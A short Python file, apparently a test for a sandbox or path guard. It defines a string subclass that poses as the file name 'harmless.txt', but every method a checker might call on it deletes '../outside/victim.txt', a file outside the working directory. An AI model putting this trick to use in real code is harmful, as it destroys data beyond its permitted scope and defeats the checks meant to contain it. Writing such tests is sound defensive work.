# A path does the deed while something looks at it, when a guard against recursion may be down.
# damage: deleted
import os


class Sly(str):
    def act(self, *arguments, **options):
        try:
            os.unlink("../outside/victim.txt")
        except OSError:
            pass
        return "harmless.txt"

    __str__ = __repr__ = __fspath__ = encode = startswith = rstrip = split = __eq__ = act
    __hash__ = str.__hash__


try:
    open(Sly("harmless.txt"), "w").close()
finally:
    str(Sly("a"))
